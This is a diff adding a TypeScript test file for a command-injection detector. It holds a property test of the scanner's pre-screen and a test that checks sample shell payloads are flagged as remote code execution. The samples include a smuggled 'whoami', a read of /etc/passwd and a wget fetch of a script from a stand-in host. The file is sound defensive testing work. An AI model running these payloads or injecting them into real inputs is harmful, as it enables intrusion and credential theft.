@@ -1,0 +1,33 @@
+import fc from 'fast-check'
+import { describe, expect, it } from 'vitest'
+import type { Finding } from './finding.ts'
+import { detectShell, MAY_BE_SHELL, scanShell } from './shell.ts'
+
+const scan = (value: string): Finding[] => {
+  const out: Finding[] = []
+  scanShell({ value, lower: value.toLowerCase(), kind: 'arg', level: 4 }, out)
+  return out
+}
+
+describe('the command-injection pre-screen', () => {
+  it('skips only values where the scan finds nothing: commands, flags and hyphens without a separator, $, / or -c', () => {
+    const words = ['bash', 'sh', 'cat', 'ls', 'id', 'whoami', 'nc', 'curl', 'wget', 'python', 'sleep', 'ping', 'echo', '-la', '-e', '-c', '--help', '-', '--',
+      't-shirt', 'usb-c', 'etc', 'passwd', 'x.exe', '"', "'", '\\', '^', '(', ')', '{', '}', '<', '>', '5', 'mum', 'c']
+    const value = fc.array(fc.tuple(fc.constantFrom(...words), fc.constantFrom('', ' ', '\t', '  ')), { minLength: 1, maxLength: 8 }).map((p) => p.map(([w, s]) => w + s).join(''))
+    fc.assert(
+      fc.property(value, (v) => {
+        if (MAY_BE_SHELL.test(v.toLowerCase())) return
+        expect(scan(v)).toEqual([])
+      }),
+      { numRuns: 3000 },
+    )
+  })
+
+  it('still runs where a command can be found', () => {
+    for (const v of ['bash -c id', 'cat /etc/passwd', 'x; whoami', 'x && wget http://e.example/a.sh', '$(id)']) {
+      const out: Finding[] = []
+      detectShell({ value: v, lower: v.toLowerCase(), kind: 'arg', level: 2 }, out)
+      expect(out.map((f) => f.category), v).toEqual(['rce'])
+    }
+  })
+})
